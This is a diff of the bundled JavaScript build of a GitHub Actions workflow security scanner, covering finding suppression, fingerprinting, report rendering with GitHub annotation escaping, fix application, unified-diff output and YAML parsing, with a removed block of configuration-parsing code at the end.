+    const used = new Set();
+    const silenced = findings.map((finding) => {
+        if (finding.suppressed)
+            return finding;
+        const ignore = ignores.find((candidate) => silences(candidate, finding, options));
+        if (!ignore)
+            return finding;
+        used.add(useKey(ignore, finding.rule));
+        return { ...finding, suppressed: { by: "comment", reason: ignore.reason || "zizmor ignore" } };
+    });
+    const ours = ignores.filter(({ dialect }) => dialect === "trustchain");
+    return {
+        findings: silenced,
+        withoutReason: ours.filter(({ reason }) => reason === ""),
+        unused: ours
+            .filter(({ reason }) => reason !== "")
+            .flatMap((ignore) => ignore.rules.map((rule) => ({ ignore, rule })))
+            .filter(({ ignore, rule }) => !used.has(useKey(ignore, rule))),
+    };
+}
+function silences(ignore, finding, options) {
+    if (!ignore.rules.includes(finding.rule))
+        return false;
+    const { startLine, endLine } = finding.location;
+    if (ignore.dialect === "zizmor") {
+        // zizmor takes a comment anywhere on the lines of the finding.
+        if (!options.isZizmorRule(finding.rule))
+            return false;
+        const { line } = ignore.comment;
+        return (line >= startLine && line <= endLine) || options.alsoLines(finding).includes(line);
+    }
+    if (ignore.reason === "")
+        return false;
+    const lines = [startLine, endLine, ...options.alsoLines(finding)];
+    return ignore.lines.some((line) => lines.includes(line));
+}
+function useKey(ignore, rule) {
+    return `${ignore.comment.line}:${rule}`;
+}
+
+// EXTERNAL MODULE: ./packages/findings/lib/escape.js
+var lib_escape = __nccwpck_require__(1533);
+;// CONCATENATED MODULE: ./packages/findings/lib/fingerprint.js
+/**
+ * Gives each finding its fingerprint: 64 hexadecimal digits, SHA-256 of rule, path, anchor and its number among those
+ * that share them, in the order in which they come. It stays the same when lines move.
+ */
+function fingerprintFindings(findings) {
+    if (findings.length === 0)
+        return [];
+    // Not an import: commands that fingerprint nothing don't wait for it.
+    const crypto = process.getBuiltinModule("node:crypto");
+    const seen = new Map();
+    return findings.map((finding) => {
+        const identity = `${finding.rule}\0${finding.location.path}\0${finding.anchor}`;
+        const ordinal = seen.get(identity) ?? 0;
+        seen.set(identity, ordinal + 1);
+        // Six times faster than `createHash` for texts of this size.
+        return { ...finding, fingerprint: crypto.hash("sha256", `${identity}\0${ordinal}`, "hex"), suppressed: null };
+    });
+}
+
+;// CONCATENATED MODULE: ./packages/findings/lib/render-report.js
+/** A report in one of its forms, ending with a line break. The same report gives the same text. */
+async function renderReport(format, report, context, options) {
+    switch (format) {
+        case "text":
+            return (await __nccwpck_require__.e(/* import() */ 462).then(__nccwpck_require__.bind(__nccwpck_require__, 5462))).renderText(report, context, options);
+        case "json":
+            return (await __nccwpck_require__.e(/* import() */ 231).then(__nccwpck_require__.bind(__nccwpck_require__, 4231))).renderJson(report);
+        case "sarif":
+            return (await __nccwpck_require__.e(/* import() */ 188).then(__nccwpck_require__.bind(__nccwpck_require__, 3188))).renderSarif(report, context);
+        case "markdown":
+            return (await __nccwpck_require__.e(/* import() */ 920).then(__nccwpck_require__.bind(__nccwpck_require__, 4920))).renderMarkdown(report, context);
+        case "github":
+            return (await Promise.resolve(/* import() */).then(__nccwpck_require__.bind(__nccwpck_require__, 9254))).renderGithub(report, context);
+    }
+}
+/** The report for `GITHUB_STEP_SUMMARY`: Markdown of at most 1 MiB, which is what GitHub takes of a step. */
+async function jobSummary(report, context) {
+    return (await __nccwpck_require__.e(/* import() */ 920).then(__nccwpck_require__.bind(__nccwpck_require__, 4920))).renderJobSummary(report, context);
+}
+
+// EXTERNAL MODULE: ./packages/findings/lib/report.js
+var report = __nccwpck_require__(636);
+// EXTERNAL MODULE: ./packages/findings/lib/reporters/github.js
+var github = __nccwpck_require__(9254);
+;// CONCATENATED MODULE: ./packages/findings/lib/text-edit.js
+/**
+ * Applies edits to a text; everything outside them stays as it is.
+ *
+ * @throws RangeError when edits overlap or leave the text: choose among fixes first, see `selectFixes`.
+ */
+function applyEdits(text, edits) {
+    const ordered = [...edits].sort((a, b) => a.start - b.start || a.end - b.end);
+    let result = "";
+    let at = 0;
+    for (const edit of ordered) {
+        if (edit.start < at || edit.end < edit.start || edit.end > text.length) {
+            throw new RangeError(`edit ${edit.start}-${edit.end} overlaps another edit or leaves the text`);
+        }
+        result += text.slice(at, edit.start) + edit.text;
+        at = edit.end;
+    }
+    return result + text.slice(at);
+}
+/** Do two edits touch the same characters, or insert at the same place? */
+function overlaps(a, b) {
+    if (a.start === a.end && b.start === b.end)
+        return a.start === b.start;
+    return a.start < b.end && b.start < a.end;
+}
+
+;// CONCATENATED MODULE: ./packages/findings/lib/select-fixes.js
+
+/**
+ * Chooses the fixes to apply in one round: in the order of the findings, each wholly or not at all, none that overlaps one
+ * before it. Edits that are the same count once: two fixes may share them.
+ */
+function selectFixes(findings, mode) {
+    const files = new Map();
+    for (const finding of findings) {
+        const { fix } = finding;
+        if (!fix || finding.suppressed || (mode === "safe" && !fix.safe))
+            continue;
+        const isFree = fix.files.every(({ path, edits }) => edits.every((edit) => fits(edit, files.get(path)?.edits ?? [])));
+        if (!isFree)
+            continue;
+        for (const { path, edits } of fix.files)
+            take(files, path, edits, finding);
+    }
+    return { files: [...files.values()] };
+}
+function fits(edit, taken) {
+    return taken.every((other) => isSame(edit, other) || !overlaps(edit, other));
+}
+function take(files, path, edits, finding) {
+    const selected = files.get(path) ?? { path, edits: [], findings: [] };
+    files.set(path, selected);
+    selected.edits.push(...edits.filter((edit) => !selected.edits.some((other) => isSame(edit, other))));
+    selected.findings.push(finding);
+}
+function isSame(a, b) {
+    return a.start === b.start && a.end === b.end && a.text === b.text;
+}
+
+;// CONCATENATED MODULE: ./packages/findings/lib/source-file.js
+/**
+ * A text file of the repository under judgement, with positions.
+ *
+ * `text` is what was read from disk, byte order mark included, so that offsets are offsets into the file and an edit
+ * can be applied to it as it is. A byte order mark takes no column: it is not part of line 1.
+ */
+class SourceFile {
+    path;
+    text;
+    #lineStarts;
+    constructor(
+    /** Path relative to the repository, with `/`. */
+    path, text) {
+        this.path = path;
+        this.text = text;
+    }
+    /** The offset at which each line begins. Lines end with LF, CRLF or a lone CR (YAML 1.2, section 5.4). */
+    get lineStarts() {
+        this.#lineStarts ??= lineStartsOf(this.text);
+        return this.#lineStarts;
+    }
+    get lineCount() {
+        return this.lineStarts.length;
+    }
+    /** Where `offset` is; offsets outside the text are moved to its nearest end. */
+    position(offset) {
+        const starts = this.lineStarts;
+        const at = Math.max(starts[0], Math.min(offset, this.text.length));
+        let low = 0;
+        let high = starts.length - 1;
+        while (low < high) {
+            const middle = (low + high + 1) >> 1;
+            if (starts[middle] <= at)
+                low = middle;
+            else
+                high = middle - 1;
+        }
+        return { line: low + 1, column: at - starts[low] + 1 };
+    }
+    /** The text of a 1-based line without its line break; empty for a line that does not exist. */
+    line(number) {
+        const start = this.lineStarts[number - 1];
+        if (start === undefined)
+            return "";
+        let end = this.lineStarts[number] ?? this.text.length;
+        // By hand: a regular expression would look through the whole line, and lines may have a megabyte.
+        while (end > start && isLineBreak(this.text.charCodeAt(end - 1)))
+            end--;
+        return this.text.slice(start, end);
+    }
+}
+function isLineBreak(code) {
+    return code === 10 || code === 13;
+}
+function lineStartsOf(text) {
+    const starts = [text.charCodeAt(0) === 0xfeff ? 1 : 0];
+    if (text.includes("\r")) {
+        for (let i = 0; i < text.length; i++) {
+            const code = text.charCodeAt(i);
+            if (code === 10 || (code === 13 && text.charCodeAt(i + 1) !== 10))
+                starts.push(i + 1);
+        }
+        return starts;
+    }
+    for (let i = text.indexOf("\n"); i !== -1; i = text.indexOf("\n", i + 1))
+        starts.push(i + 1);
+    return starts;
+}
+
+;// CONCATENATED MODULE: ./packages/findings/lib/unified-diff.js
+
+const CONTEXT = 3;
+/**
+ * One unified diff of several files, as `git apply` takes it.
+ *
+ * @see POSIX `diff`, "Diff -u Output Format"; git's quoting of paths (`core.quotePath`)
+ */
+function unifiedDiff(changes) {
+    return [...changes]
+        .filter(({ before, after }) => before !== after)
+        .sort((a, b) => (0,finding/* compareText */.n6)(a.path, b.path))
+        .map(diffOf)
+        .join("");
+}
+function diffOf({ path, before, after }) {
+    const hunks = hunksOf(unified_diff_linesOf(before), unified_diff_linesOf(after));
+    return `--- ${quoted(`a/${path}`)}\n+++ ${quoted(`b/${path}`)}\n${hunks.map(printHunk).join("")}`;
+}
+/** Lines with their line feeds; only the last may lack one. A carriage return is part of its line. */
+function unified_diff_linesOf(text) {
+    return text === "" ? [] : text.split(/(?<=\n)/);
+}
+function hunksOf(old, now) {
+    const hunks = [];
+    for (const change of changesOf(old, now)) {
+        const last = hunks.at(-1)?.changes.at(-1);
+        if (last && change.oldStart - last.oldEnd <= 2 * CONTEXT)
+            hunks.at(-1)?.changes.push(change);
+        else
+            hunks.push({ changes: [change], old, new: now });
+    }
+    return hunks;
+}
+/** How far ahead a line is looked for to find where two texts meet again. Fixes change a few lines at a place. */
+const LOOK_AHEAD = 200;
+/** Differences by walking both texts: where they part, the nearest pair of equal lines is where they meet again. */
+function changesOf(old, now) {
+    const changes = [];
+    let i = 0;
+    let j = 0;
+    while (i < old.length || j < now.length) {
+        if (i < old.length && old[i] === now[j]) {
+            i++;
+            j++;
+            continue;
+        }
+        const [oldEnd, newEnd] = meetingPoint(old, now, i, j);
+        changes.push({ oldStart: i, oldEnd, newStart: j, newEnd });
+        i = oldEnd;
+        j = newEnd;
+    }
+    return changes;
+}
+function meetingPoint(old, now, i, j) {
+    for (let distance = 1; distance <= LOOK_AHEAD; distance++) {
+        for (let skipped = 0; skipped <= distance; skipped++) {
+            const a = i + skipped;
+            const b = j + distance - skipped;
+            if (a < old.length && b < now.length && old[a] === now[b])
+                return [a, b];
+            if (a === old.length && b === now.length)
+                return [a, b];
+        }
+    }
+    return [old.length, now.length];
+}
+function printHunk({ changes, old, new: now }) {
+    const first = changes[0];
+    const last = changes.at(-1);
+    const oldFrom = Math.max(0, first.oldStart - CONTEXT);
+    const oldTo = Math.min(old.length, last.oldEnd + CONTEXT);
+    const newFrom = first.newStart - (first.oldStart - oldFrom);
+    const newTo = last.newEnd + (oldTo - last.oldEnd);
+    let text = `@@ -${rangeOf(oldFrom, oldTo)} +${rangeOf(newFrom, newTo)} @@\n`;
+    let at = oldFrom;
+    for (const change of changes) {
+        text +=
+            print(" ", old, at, change.oldStart) +
+                print("-", old, change.oldStart, change.oldEnd) +
+                print("+", now, change.newStart, change.newEnd);
+        at = change.oldEnd;
+    }
+    return text + print(" ", old, at, oldTo);
+}
+/** An empty range is named by the line before it. */
+function rangeOf(from, to) {
+    const count = to - from;
+    return count === 1 ? `${from + 1}` : `${count === 0 ? from : from + 1},${count}`;
+}
+function print(mark, lines, from, to) {
+    let text = "";
+    for (let i = from; i < to; i++) {
+        const line = lines[i];
+        text += mark + (line.endsWith("\n") ? line : `${line}\n\\ No newline at end of file\n`);
+    }
+    return text;
+}
+const NAMED_ESCAPES = {
+    "\\": "\\\\",
+    '"': '\\"',
+    "\n": "\\n",
+    "\r": "\\r",
+    "\t": "\\t",
+};
+/** Paths with control characters, quotes or anything outside ASCII stand in C-style quotes. */
+function quoted(path) {
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what it looks for
+    if (!/[\x00-\x1f\x7f-\uffff"\\]/.test(path))
+        return path.includes(" ") ? `${path}\t` : path;
+    let text = "";
+    for (const byte of new TextEncoder().encode(path)) {
+        const char = String.fromCharCode(byte);
+        text += NAMED_ESCAPES[char] ?? (byte < 0x20 || byte > 0x7e ? `\\${byte.toString(8).padStart(3, "0")}` : char);
+    }
+    return `"${text}"`;
+}
+
+;// CONCATENATED MODULE: ./packages/findings/lib/index.js
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+/***/ }),
+
+/***/ 636:
+/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
+
+/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
+/* harmony export */   O: () => (/* binding */ countBySeverity),
+/* harmony export */   T: () => (/* binding */ sortFindings)
+/* harmony export */ });
+/* harmony import */ var _finding_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(45);
+
+/** Counts of the findings that are not suppressed, by severity. */
+function countBySeverity(findings) {
+    const counts = Object.fromEntries(_finding_js__WEBPACK_IMPORTED_MODULE_0__/* .SEVERITIES */ .oC.map((severity) => [severity, 0]));
+    for (const finding of findings)
+        if (!finding.suppressed)
+            counts[finding.severity]++;
+    return counts;
+}
+function sortFindings(findings) {
+    return [...findings].sort(_finding_js__WEBPACK_IMPORTED_MODULE_0__/* .compareFindings */ .Eg);
+}
+
+
+/***/ }),
+
+/***/ 9254:
+/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
+
+__nccwpck_require__.r(__webpack_exports__);
+/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
+/* harmony export */   annotations: () => (/* binding */ annotations),
+/* harmony export */   renderGithub: () => (/* binding */ renderGithub)
+/* harmony export */ });
+/* harmony import */ var _escape_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(1533);
+/* harmony import */ var _finding_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(45);
+
+
+const LEVELS = {
+    critical: "error",
+    high: "error",
+    medium: "warning",
+    low: "notice",
+    info: "notice",
+};
+/** GitHub shows so many of each level for a step, and drops the rest without a word. */
+const LIMIT = 10;
+/** Notes for the findings that nothing silences: the worst first, as many as GitHub shows, and one on how many are left out. */
+function annotations(report, context) {
+    const findings = report.findings
+        .filter(({ suppressed }) => !suppressed)
+        .sort((a, b) => (0,_finding_js__WEBPACK_IMPORTED_MODULE_1__/* .compareSeverity */ .zK)(a.severity, b.severity));
+    let shown = firstOfEach(findings, { error: LIMIT, warning: LIMIT, notice: LIMIT });
+    // The note on the rest is a notice too and needs a place among them.
+    if (shown.length < findings.length)
+        shown = firstOfEach(findings, { error: LIMIT, warning: LIMIT, notice: LIMIT - 1 });
+    const notes = shown.map((finding) => annotationOf(finding, context));
+    const rest = findings.length - shown.length;
+    if (rest > 0)
+        notes.push({ level: "notice", title: "trustchain", message: restMessage(rest) });
+    return notes;
+}
+function firstOfEach(findings, limits) {
+    return findings.filter(({ severity }) => limits[LEVELS[severity]]-- > 0);
+}
+function restMessage(rest) {
+    return `${rest} more ${rest === 1 ? "finding is" : "findings are"} in the summary and the report: GitHub shows ${LIMIT} notes of a level`;
+}
+function annotationOf({ rule, severity, message, location }, context) {
+    const { path, startLine, startColumn, endLine, endColumn } = location;
+    const mend = context.rule(rule)?.mend;
+    return {
+        level: LEVELS[severity],
+        message: (0,_escape_js__WEBPACK_IMPORTED_MODULE_0__/* .escapeTerminal */ .en)(message) + (mend ? `\n${mend}` : ""),
+        title: `${rule} (${severity})`,
+        path: escapeExceptBreaks(path),
+        startLine,
+        endLine,
+        ...(startLine === endLine && { startColumn, endColumn }),
+    };
+}
+/** A line break in a file's name is part of the name; whoever prints it has a form for it. */
+function escapeExceptBreaks(path) {
+    return path.split("\n").map(_escape_js__WEBPACK_IMPORTED_MODULE_0__/* .escapeTerminal */ .en).join("\n");
+}
+/** Annotations as the workflow commands that make them. */
+function renderGithub(report, context) {
+    return annotations(report, context).map(commandOf).join("");
+}
+/** @see actions/toolkit, docs/commands.md; actions/runner, src/Runner.Common/ActionCommand.cs, for what is escaped */
+function commandOf({ level, message, title, path, startLine, endLine, startColumn, endColumn }) {
+    const properties = Object.entries({ file: path, line: startLine, endLine, col: startColumn, endColumn, title })
+        .filter(([, value]) => value !== undefined)
+        .map(([name, value]) => `${name}=${escapeProperty(String(value))}`);
+    return `::${level} ${properties.join(",")}::${escapeData(message)}\n`;
+}
+function escapeData(text) {
+    return text.replaceAll("%", "%25").replaceAll("\r", "%0D").replaceAll("\n", "%0A");
+}
+function escapeProperty(text) {
+    return escapeData(text).replaceAll(":", "%3A").replaceAll(",", "%2C");
+}
+
+
+/***/ }),
+
+/***/ 5891:
+/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
+
+/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
+/* harmony export */   G: () => (/* binding */ resolveCore)
+/* harmony export */ });
+const NULLS = new Set(["", "~", "null", "Null", "NULL"]);
+const BOOLEANS = new Map([
+    ["true", true],
+    ["True", true],
+    ["TRUE", true],
+    ["false", false],
+    ["False", false],
+    ["FALSE", false],
+]);
+const DECIMAL = /^[-+]?(?:\.[0-9]+|[0-9]+(?:\.[0-9]*)?)(?:[eE][-+]?[0-9]+)?$/;
+const OCTAL = /^0o[0-7]+$/;
+const HEXADECIMAL = /^0x[0-9a-fA-F]+$/;
+const INFINITY = /^([-+]?)\.(?:inf|Inf|INF)$/;
+const NAN = /^\.(?:nan|NaN|NAN)$/;
+/** Tag resolution of the YAML 1.2.2 core schema, section 10.3.2: `yes`, `on` and `0b1` stay strings. */
+function resolveCore(text) {
+    if (NULLS.has(text))
+        return null;
+    const boolean = BOOLEANS.get(text);
+    if (boolean !== undefined)
+        return boolean;
+    const first = text.charCodeAt(0);
+    const mayBeNumber = (first >= 48 && first <= 57) || first === 43 || first === 45 || first === 46;
+    return mayBeNumber ? resolveNumber(text) : text;
+}
+function resolveNumber(text) {
+    if (DECIMAL.test(text) || OCTAL.test(text) || HEXADECIMAL.test(text))
+        return Number(text);
+    const infinity = INFINITY.exec(text);
+    if (infinity)
+        return infinity[1] === "-" ? Number.NEGATIVE_INFINITY : Number.POSITIVE_INFINITY;
+    return NAN.test(text) ? Number.NaN : text;
+}
+
+
+/***/ }),
+
+/***/ 8165:
+/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
+
+/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
+/* harmony export */   m: () => (/* binding */ LazyDocument)
+/* harmony export */ });
+/* harmony import */ var _gaps_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(4937);
+
+/** A document whose comments are looked for when they are first asked for: most runs never ask. */
+class LazyDocument {
+    file;
+    root;
+    problems;
+    scalars;
+    #comments;
+    constructor(file, root, problems, 
+    /** All scalars, in order: no comment stands inside them. */
+    scalars) {
+        this.file = file;
+        this.root = root;
+        this.problems = problems;
+        this.scalars = scalars;
+    }
+    comments() {
+        this.#comments ??= this.file.text.includes("#") ? findComments(this.file, this.scalars()) : [];
+        return this.#comments;
+    }
+}
+function findComments(file, scalars) {
+    const comments = [];
+    let at = 0;
+    const addUntil = (end) => {
+        for (const span of (0,_gaps_js__WEBPACK_IMPORTED_MODULE_0__/* .commentsBetween */ .X)(file.text, at, end))
+            comments.push(describe(file, span));
+    };
+    for (const scalar of scalars) {
+        // One may stand behind a block scalar's header.
+        addUntil(scalar.isBlock ? scalar.contentStart : scalar.start);
+        at = Math.max(at, scalar.end);
+    }
+    addUntil(file.text.length);
+    return comments;
+}
+function describe(file, span) {
+    const { line } = file.position(span.start);
+    const before = file.text.slice(file.lineStarts[line - 1], span.start);
+    return { ...span, text: file.text.slice(span.start + 1, span.end), alone: before.trim() === "" };
+}
+
+
+/***/ }),
+
+/***/ 4937:
+/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
+
+/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
+/* harmony export */   H: () => (/* binding */ findIndicator),
+/* harmony export */   X: () => (/* binding */ commentsBetween)
+/* harmony export */ });
+/**
+ * What stands between two tokens is white space, comments and indicators. These scanners read such a gap; they are
+ * never given the inside of a scalar.
+ */
+/** The first of `wanted` between `from` and `to` outside comments, or -1. */
+function findIndicator(text, from, to, wanted) {
+    for (let i = from; i < to; i++) {
+        const char = text[i];
+        if (char === "#" && startsComment(text, i))
+            i = endOfLine(text, i, to);
+        else if (wanted.includes(char))
+            return i;
+    }
+    return -1;
+}
+/** Comments between `from` and `to`: a `#` at the line's start or after white space (YAML 1.2.2, section 6.6). */
+function commentsBetween(text, from, to) {
+    const comments = [];
+    for (let i = text.indexOf("#", from); i !== -1 && i < to; i = text.indexOf("#", i)) {
+        if (startsComment(text, i)) {
+            const end = endOfLine(text, i, to);
+            comments.push({ start: i, end });
+            i = end;
+        }
+        else {
+            i++;
+        }
+    }
+    return comments;
+}
+function startsComment(text, at) {
+    if (at === 0)
+        return true;
+    const before = text.charCodeAt(at - 1);
+    return before === 32 || before === 9 || before === 10 || before === 13 || before === 0xfeff;
+}
+function endOfLine(text, from, to) {
+    let i = from;
+    while (i < to && text.charCodeAt(i) !== 10 && text.charCodeAt(i) !== 13)
+        i++;
+    return i;
+}
+
+
+/***/ }),
+
+/***/ 7652:
+/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
+
+
+// EXPORTS
+__nccwpck_require__.d(__webpack_exports__, {
+  gZ: () => (/* reexport */ limits/* MAX_FILE_BYTES */.gZ),
+  _M: () => (/* reexport */ nodes/* YamlMap */._M),
+  Q0: () => (/* reexport */ nodes/* YamlScalar */.Q0),
+  nJ: () => (/* reexport */ nodes/* YamlSeq */.nJ),
+  hN: () => (/* reexport */ parseYaml)
+});
+
+// UNUSED EXPORTS: resolveCore
 
 // EXTERNAL MODULE: ./packages/workflow-analysis/lib/yaml/core-schema.js
 var core_schema = __nccwpck_require__(5891);
@@ -6839,14 +19534,45 @@ var gaps = __nccwpck_require__(4937);
  * Never throws for bad input: see `problems` of the result.
  */
 async function parseYaml(file) {
-    let events;
-    try {
-        events = parseEvents(file.text, { maxDepth: limits/* MAX_DEPTH */.lr });
+    const events = readEvents(file.text);
+    return Array.isArray(events) ? new TreeBuilder(file, events).build() : recover(file, events.error);
+}
+/** More brackets of that kind in one file are left to the slower library. */
+const MAX_RETRIES = 20;
+/**
+ * js-yaml's events, or what it threw.
+ *
+ * It refuses a flow collection whose closing bracket stands as far left as the key that holds it, which is common and
+ * which GitHub reads. There the line break before the bracket is read as a space: no offset changes.
+ */
+function readEvents(text) {
+    let readable = text;
+    for (let attempt = 0;; attempt++) {
+        try {
+            return parseEvents(readable, { maxDepth: limits/* MAX_DEPTH */.lr });
+        }
+        catch (error) {
+            const joined = attempt < MAX_RETRIES ? joinBracketLine(readable, error) : null;
+            if (joined === null)
+                return { error };
+            readable = joined;
+        }
     }
-    catch (error) {
-        return recover(file, error);
-    }
-    return new TreeBuilder(file, events).build();
+}
+/** Null unless the error is about a closing bracket alone at the beginning of its line, with no comment before it. */
+function joinBracketLine(text, error) {
+    if (!(error instanceof YAMLException) || !error.reason.includes("indentation"))
+        return null;
+    const at = error.mark?.position ?? 0;
+    if (text[at] !== "]" && text[at] !== "}")
+        return null;
+    let blank = at;
+    while (blank > 0 && /\s/.test(text[blank - 1]))
+        blank--;
+    const lineStart = Math.max(text.lastIndexOf("\n", blank), text.lastIndexOf("\r", blank)) + 1;
+    if (text.slice(lineStart, blank).includes("#"))
+        return null;
+    return text.slice(0, blank) + " ".repeat(at - blank) + text.slice(at);
 }
 async function recover(file, error) {
     const problem = problemOf(file, error);
@@ -7076,12643 +19802,6 @@ function decodeEvent(text, raw) {
 
 
 
-
-// EXTERNAL MODULE: ./node_modules/picomatch/index.js
-var picomatch = __nccwpck_require__(4006);
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/config/globs.js
-
-/** Does a path match one of the globs? A glob without `/` matches a file's name in any folder, as in `.gitignore`. */
-function pathMatcher(globs) {
-    if (globs.length === 0)
-        return () => false;
-    const matchers = globs.map((glob) => picomatch(glob.replace(/^\.?\//, ""), { dot: true, basename: !glob.includes("/") }));
-    return (path) => matchers.some((matches) => matches(path));
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/config/parse.js
-
-
-
-
-const TOP_KEYS = ["persona", "ignore", "rules"];
-const RULE_KEYS = ["severity", "persona", "ignore", "reason"];
-/**
- * Reads the settings of a repository.
- *
- * @param ruleIds the rules that there are
- * @throws UserError for anything that isn't as it should be, with the place in the file
- */
-async function parseConfig(file, ruleIds) {
-    const { root, problems } = await parseYaml(file);
-    const [problem] = problems;
-    if (problem)
-        throw wrong(file, problem.start, problem.message, "mend the YAML");
-    if (!root)
-        return { path: file.path, persona: null, isIgnored: () => false, rules: new Map() };
-    const map = expectMap(root, "settings are keys with values");
-    expectKeys(map, TOP_KEYS);
-    return {
-        path: file.path,
-        persona: oneOf(map.entry("persona"), lib/* PERSONAS */.Ud),
-        isIgnored: pathMatcher(texts(map.entry("ignore"))),
-        rules: new Map(map.entry("rules") ? ruleSettings(map.entry("rules"), ruleIds) : []),
-    };
-}
-function ruleSettings(entry, ruleIds) {
-    if (isNull(entry.value))
-        return [];
-    const map = expectMap(entry.value, "`rules` holds rule ids with their settings");
-    return map.entries.map(({ key, value }) => {
-        if (!ruleIds.includes(key.value)) {
-            throw wrong(key.file, key.start, `there is no rule \`${key.value}\`${(0,action_kit_lib/* didYouMean */.au)(key.value, ruleIds)}`, "name one of the rules in docs/rules");
-        }
-        return [key.value, settingsOf(value)];
-    });
-}
-const NOTHING = { isOff: false, severity: null, persona: null, ignore: [], reason: null };
-function settingsOf(node) {
-    if (node.kind === "map") {
-        expectKeys(node, RULE_KEYS);
-        return {
-            isOff: false,
-            severity: oneOf(node.entry("severity"), lib/* SEVERITIES */.oC),
-            persona: oneOf(node.entry("persona"), lib/* PERSONAS */.Ud),
-            ignore: texts(node.entry("ignore")).map(ignoredPlace),
-            reason: node.text("reason") ?? null,
-        };
-    }
-    // YAML 1.1 readers turn `off` into false, so people write that, too.
-    if (node.kind === "scalar" && (node.value === "off" || node.typed === false))
-        return { ...NOTHING, isOff: true };
-    const severity = node.kind === "scalar" ? lib/* SEVERITIES */.oC.find((name) => name === node.value) : undefined;
-    if (severity)
-        return { ...NOTHING, severity };
-    const given = node.kind === "scalar" ? `\`${node.value}\`` : "a list";
-    throw wrong(node.file, node.start, `${given} is no setting of a rule`, `write off, ${lib/* SEVERITIES */.oC.join(", ")} or a mapping`);
-}
-function ignoredPlace(glob) {
-    const match = /^(.*):(\d+)$/.exec(glob);
-    if (!match)
-        return { matches: pathMatcher([glob]), line: null };
-    return { matches: pathMatcher([match[1]]), line: Number(match[2]) };
-}
-function oneOf(entry, words) {
-    if (!entry || isNull(entry.value))
-        return null;
-    const node = entry.value;
-    const text = node.kind === "scalar" ? node.value : "";
-    const word = words.find((candidate) => candidate === text);
-    if (word)
-        return word;
-    const given = node.kind === "scalar" ? `\`${text}\`${(0,action_kit_lib/* didYouMean */.au)(text, words)}` : "a collection";
-    throw wrong(node.file, node.start, `\`${entry.key.value}\` is ${given}`, `write one of ${words.join(", ")}`);
-}
-function texts(entry) {
-    if (!entry || isNull(entry.value))
-        return [];
-    const { value } = entry;
-    const scalars = value.kind === "seq"
-        ? value.items.map((item) => (item.value.kind === "scalar" ? item.value : null))
-        : [value.kind === "scalar" ? value : null];
-    return scalars.map((scalar) => {
-        if (scalar && scalar.value !== "")
-            return scalar.value;
-        throw wrong(value.file, value.start, `\`${entry.key.value}\` holds something else than globs`, "write a list of path globs");
-    });
-}
-function expectMap(node, what) {
-    if (node.kind === "map")
-        return node;
-    throw wrong(node.file, node.start, `no mapping stands here, but ${what}`, "see docs/trustchain.schema.json");
-}
-function expectKeys(map, known) {
-    for (const { key } of map.entries) {
-        if (known.includes(key.value))
-            continue;
-        throw wrong(key.file, key.start, `there is no setting \`${key.value}\`${(0,action_kit_lib/* didYouMean */.au)(key.value, known)}`, `the settings here are ${known.join(", ")}`);
-    }
-}
-function isNull(node) {
-    return node.kind === "scalar" && node.isNull;
-}
-function wrong(file, offset, reason, remedy) {
-    const { line, column } = file.position(offset);
-    return new action_kit_lib/* UserError */.yo(`${file.path}:${line}:${column}`, reason, remedy);
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/config/schema.js
-
-/** JSON Schema (draft 2020-12) of `.github/trustchain.yml`, for editors. */
-function configSchema(rules) {
-    return {
-        $schema: "https://json-schema.org/draft/2020-12/schema",
-        $comment: "generated by npm run generate",
-        title: "trustchain settings of a repository (.github/trustchain.yml)",
-        type: "object",
-        additionalProperties: false,
-        properties: {
-            persona: { enum: PERSONAS, description: "For whom findings are reported" },
-            ignore: { $ref: "#/$defs/globs", description: "Paths that are not read at all" },
-            rules: {
-                type: "object",
-                additionalProperties: false,
-                properties: Object.fromEntries(rules.map((rule) => [rule.id, { $ref: "#/$defs/rule", description: rule.summary }])),
-            },
-        },
-        $defs: {
-            globs: { oneOf: [{ type: "string" }, { type: "array", items: { type: "string", minLength: 1 } }] },
-            severity: { enum: SEVERITIES },
-            rule: {
-                oneOf: [
-                    { const: "off" },
-                    { const: false },
-                    { $ref: "#/$defs/severity" },
-                    {
-                        type: "object",
-                        additionalProperties: false,
-                        properties: {
-                            severity: { $ref: "#/$defs/severity" },
-                            persona: { enum: PERSONAS },
-                            ignore: { $ref: "#/$defs/globs", description: "Places whose findings are suppressed: path or path:line" },
-                            reason: { type: "string", description: "Why, shown with the suppressed findings" },
-                        },
-                    },
-                ],
-            },
-        },
-    };
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/config/index.js
-
-
-
-
-// EXTERNAL MODULE: external "node:fs"
-var external_node_fs_ = __nccwpck_require__(3024);
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/repository/discover.js
-
-
-
-const SKIPPED_FOLDERS = new Set(["node_modules", ".git"]);
-const RENOVATE = new Set([
-    "renovate.json",
-    "renovate.json5",
-    ".github/renovate.json",
-    ".github/renovate.json5",
-    ".renovaterc",
-    ".renovaterc.json",
-    ".renovaterc.json5",
-]);
-const CODEOWNERS = new Set(["CODEOWNERS", ".github/CODEOWNERS", "docs/CODEOWNERS"]);
-const PACKAGE_CONFIGURATION = new Set([
-    ".npmrc",
-    ".yarnrc",
-    ".yarnrc.yml",
-    "bunfig.toml",
-    "build.gradle",
-    "build.gradle.kts",
-    "composer.json",
-    "gemfile",
